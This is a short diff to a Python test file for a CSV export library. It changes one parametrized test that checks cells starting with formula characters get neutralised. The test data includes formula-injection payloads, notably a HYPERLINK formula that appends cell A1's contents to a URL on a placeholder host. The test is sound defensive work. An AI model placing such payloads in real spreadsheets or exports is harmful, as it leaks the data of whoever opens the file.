@@ -8,7 +8,7 @@ from okoa.lib.csv_export import safe_cell, write_csv
 
 @pytest.mark.parametrize(
     "dangerous",
-    ['=HYPERLINK("http://x/?"&A1)', "+254700", "-2+3", "@SUM(A1)", "\tcmd", "\r=1", "＝1+1"],
+    ['=HYPERLINK("http://x/?"&A1)', "+254700", "-2+3", "@SUM(A1)", "\tcmd", "\r=1", "\uff1d1+1"],
 )
 def test_cells_that_start_a_formula_are_neutralised(dangerous):
     assert safe_cell(dangerous) == "'" + dangerous
